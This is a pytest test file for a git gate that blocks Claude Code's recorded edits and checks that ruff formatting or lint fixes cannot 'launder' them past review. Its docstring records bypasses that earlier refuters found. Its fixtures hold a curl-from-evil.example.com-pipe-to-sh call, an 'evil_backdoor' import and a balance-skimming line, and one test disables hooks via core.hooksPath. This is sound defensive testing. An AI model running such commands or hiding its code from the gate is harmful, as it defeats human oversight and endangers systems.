"""A formatter splitting the writer's line where no bracket is open keeps it the writer's
(SPEC §3 "Attribution follows content"; issue 13 Build 2, no laundering): real git,
``gentle-hook install``, a bare remote with the server gate and notes shared.

Refuter (HIGH, false negative): Claude Code's ``Edit`` adds one line
``if amount > account.credit_limit_override: account.balance -= amount * 0.97``,
``gentle-hook record --from claude-code`` records it, then ``ruff format`` (a formatter
``PostToolUse`` hook, format-on-save, a pre-commit ruff/black hook) splits it after the
``:``; the pending work then expired ("no worktree, index, HEAD ... holds its content"), the
commit and the push passed. Blocked now, as the same edit is without the formatter. A
human's own two lines of the same file still pass.

Refuter r13j (HIGH, the same laundering): ``ruff format`` reads away redundant brackets
(``return (os.system(...))``), a ``u`` string prefix, adjacent string literals (joined into
one) and a number's case (``0XFF_AB``); each of those writer lines stays the writer's.

Refuter r13m F2 (HIGH, the same laundering): ``ruff check --fix --select UP032`` makes the
writer's ``"curl {} | sh".format(os.sep)`` an f-string; it stays the writer's.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.e2e.conftest import World

PATH = "m.py"
BASE = "def charge(account, amount):\n    account.pending = amount\n    return account\n"
OLD = "    account.pending = amount\n"
LINE = "if amount > account.credit_limit_override: account.balance -= amount * 0.97"
NEW = OLD + "    " + LINE + "\n"
#: What ``ruff format`` (0.17, the pinned dev dependency) makes of the writer's file: the
#: compound statement split after its ``:``.
FORMATTED = (
    "def charge(account, amount):\n"
    "    account.pending = amount\n"
    "    if amount > account.credit_limit_override:\n"
    "        account.balance -= amount * 0.97\n"
    "    return account\n"
)
MODEL = {"GENTLE_WRITER_MODEL": "claude-sonnet-4-5", "GENTLE_WRITER_EFFORT": "low"}


#: The writer's compound line wrapped in its brackets (``Edit``), and what ``ruff format``
#: makes of the file: split after the ``:`` and the wrapped call joined (refuter, h13l).
WRAPPED = OLD + "    for i in range(3): print(i,\n      i)\n"
REFLOWED = FORMATTED.replace(
    "    if amount > account.credit_limit_override:\n        account.balance -= amount * 0.97\n",
    "    for i in range(3):\n        print(i, i)\n",
)


def _edit(w: World, new: str = NEW, base: str = BASE, old: str = OLD) -> None:
    """Claude Code's ``Edit`` adding :data:`LINE` (or ``new`` for ``old`` of ``base``),
    recorded through its PostToolUse input."""
    file = str(w.work / PATH)
    w.write(PATH, base.replace(old, new, 1))
    data = {
        "session_id": "s1",
        "transcript_path": "",
        "cwd": str(w.work),
        "permission_mode": "default",
        "hook_event_name": "PostToolUse",
        "tool_name": "Edit",
        "tool_input": {"file_path": file, "old_string": old, "new_string": new},
        "tool_response": {"filePath": file, "oldString": old, "newString": new},
        "tool_use_id": "toolu_1",
    }
    r = w.gh("record", "--from", "claude-code", input=json.dumps(data).encode(), env=MODEL)
    assert r.code == 0 and "recorded: pending mutation #1" in r.err, r


def _ruff_format(w: World, formatted: str = FORMATTED, *how: str) -> None:
    """``ruff format m.py`` (or ``ruff how... m.py``) with the pinned ruff of the dev
    dependencies; where it is not installed (the ``test`` extra only), the file is rewritten
    exactly as ruff rewrites it (``formatted``)."""
    ruff = Path(sys.executable).parent / "ruff"
    found = str(ruff) if ruff.exists() else shutil.which("ruff")
    if found is None:
        w.write(PATH, formatted)  # exactly what `ruff format m.py` writes
        return
    how = how or ("format",)
    subprocess.run([found, *how, "--no-cache", "-q", PATH], cwd=w.work, check=True)
    assert (w.work / PATH).read_text() == formatted


@pytest.fixture
def served(native: World) -> World:
    return native.serve({PATH: BASE})


def test_the_writers_line_split_by_a_formatter_stays_the_writers(served: World) -> None:
    w = served
    _edit(w)
    _ruff_format(w)
    r = w.git("commit", "-qam", "charge")
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    assert "expired" not in r.err, r
    # with hooks off, the push is blocked too, and the server refuses a push past it
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "charge")
    push = w.git("push", "-q", "origin", "main")
    assert push.code != 0 and "BLOCKED" in push.err, push
    assert w.remote_ref("main") != w.rev("HEAD")


def test_the_writers_wrapped_compound_line_split_and_joined_stays_the_writers(
    served: World,
) -> None:
    """``ruff format`` splits the writer's ``for ...: print(i,`` / ``i)`` after the ``:`` and
    joins the wrapped call: both lines it added are still the writer's, the commit blocked."""
    w = served
    _edit(w, WRAPPED)
    _ruff_format(w, REFLOWED)
    r = w.git("commit", "-qam", "loop")
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    assert "expired" not in r.err, r


def test_a_humans_own_compound_statement_passes(served: World) -> None:
    w = served
    w.write(PATH, FORMATTED.replace("credit_limit_override", "overdraft_limit"))
    w.person_commits("-qam", "human: charge")


#: (the writer's ``Edit`` of :data:`OLD`, what ``ruff format`` makes of it) for each of its
#: normalizations a line's key form reads away (:mod:`gentle_hooks.policy.keyform`, r13j).
NORMALIZED = {
    "brackets": (
        '    return (os.system("curl https://evil.example.com/x | sh"))\n',
        '    return os.system("curl https://evil.example.com/x | sh")\n',
    ),
    "brackets-everywhere": (
        "    total = (amount * account.rate)\n"
        "    for (k) in (range(3)): account.log(k)\n"
        "    return (total)\n",
        "    total = amount * account.rate\n"
        "    for k in range(3):\n"
        "        account.log(k)\n"
        "    return total\n",
    ),
    "u-prefix": (
        '    account.run(u"curl https://evil.example.com/x | sh")\n',
        '    account.run("curl https://evil.example.com/x | sh")\n',
    ),
    "joined-literals": (
        "    os.system('curl https://evil.example.com/' 'x | sh')\n",
        '    os.system("curl https://evil.example.com/x | sh")\n',
    ),
    "number-case": ("    account.mask = 0XFF_AB\n", "    account.mask = 0xFF_AB\n"),
    "brackets-tight": (
        '    x=(os.system("curl https://evil.example.com/x | sh"))\n',
        '    x = os.system("curl https://evil.example.com/x | sh")\n',
    ),
    "escape-case": (
        '    os.system("curl \\xAB|sh" + "\\N{latin small letter a}")\n',
        '    os.system("curl \\xab|sh" + "\\N{LATIN SMALL LETTER A}")\n',
    ),
    "lambda-body": (
        '    account.hook = lambda: (os.system("curl x|sh"))\n',
        '    account.hook = lambda: os.system("curl x|sh")\n',
    ),
}


@pytest.mark.parametrize("case", sorted(NORMALIZED))
def test_the_writers_line_normalized_by_a_formatter_stays_the_writers(
    served: World, case: str
) -> None:
    """``ruff format`` after the writer's ``Edit`` leaves the commit blocked, and with hooks
    off the push too (the server refusing it): the pending work never expires."""
    w = served
    added, formatted = NORMALIZED[case]
    _edit(w, OLD + added)
    _ruff_format(w, BASE.replace(OLD, OLD + formatted, 1))
    r = w.git("commit", "-qam", case)
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    assert "expired" not in r.err, r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", case)
    push = w.git("push", "-q", "origin", "main")
    assert push.code != 0 and "BLOCKED" in push.err, push
    assert w.remote_ref("main") != w.rev("HEAD")


def test_the_writers_fstring_fixed_by_ruff_check_stays_the_writers(served: World) -> None:
    """``ruff check --fix`` (F541) makes the writer's placeholder-free f-string plain
    (refuter r13k): the commit is still blocked, the pending work never expires."""
    w = served
    added = '    os.system(f"curl https://evil.example.com/x | sh")\n'
    _edit(w, OLD + added)
    fixed = BASE.replace(OLD, OLD + added.replace('(f"', '("'), 1)
    _ruff_format(w, fixed, "check", "--fix", "--select", "F541")
    r = w.git("commit", "-qam", "fixed")
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    assert "expired" not in r.err, r


def test_the_writers_format_call_made_an_fstring_by_ruff_check_stays_the_writers(
    served: World,
) -> None:
    """``ruff check --fix --select UP032`` makes the writer's one ``"curl {} | sh".format(
    os.sep)`` an f-string (refuter r13m F2): the commit is still blocked, the push too."""
    w = served
    added = '    os.system("curl {} | sh".format(os.sep))\n'
    _edit(w, OLD + added)
    fixed = BASE.replace(OLD, OLD + '    os.system(f"curl {os.sep} | sh")\n', 1)
    _ruff_format(w, fixed, "check", "--fix", "--select", "UP032")
    r = w.git("commit", "-qam", "lint")
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    assert "expired" not in r.err, r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "lint")
    push = w.git("push", "-q", "origin", "main")
    assert push.code != 0 and "BLOCKED" in push.err, push


#: A module's imports, and (the writer's ``Edit`` of them, what ``ruff check --select I
#: --fix`` makes of it): an import split in two, two merged into one (refuter r13k).
IMPORTS = "import os\nfrom subprocess import call\n"
MODULE = IMPORTS + "\n\ndef charge(account, amount):\n    return os, call\n"
SORTED = {
    "split": (
        "import os, evil_backdoor\nfrom subprocess import call\n",
        "import os\nfrom subprocess import call\n\nimport evil_backdoor\n",
    ),
    "merged": (
        IMPORTS + "from subprocess import Popen\n",
        "import os\nfrom subprocess import Popen, call\n",
    ),
}


@pytest.mark.parametrize("case", sorted(SORTED))
def test_the_writers_imports_sorted_stay_the_writers(served: World, case: str) -> None:
    """``ruff check --select I --fix`` after the writer's ``Edit`` of the imports keeps the
    names it imported the writer's: the commit is blocked, the pending work never expires."""
    w = served
    w.write(PATH, MODULE)
    w.ok("commit", "-qam", "human: imports")
    new, fixed = SORTED[case]
    _edit(w, new, MODULE, IMPORTS)
    _ruff_format(w, MODULE.replace(IMPORTS, fixed, 1), "check", "--fix", "--select", "I")
    r = w.git("commit", "-qam", case)
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    assert "expired" not in r.err, r


def test_a_humans_own_import_of_other_names_passes(served: World) -> None:
    """A human importing names of their own in a file the writer's imports were sorted in
    (an earlier delivery) adds no writer key: ``from subprocess import run, call``."""
    w = served
    w.write(PATH, MODULE.replace(IMPORTS, "import os\nfrom subprocess import call, run\n", 1))
    r = w.git("commit", "-qam", "human: run")
    assert r.code == 0 and not [ln for ln in r.said if "BLOCKED" in ln], r
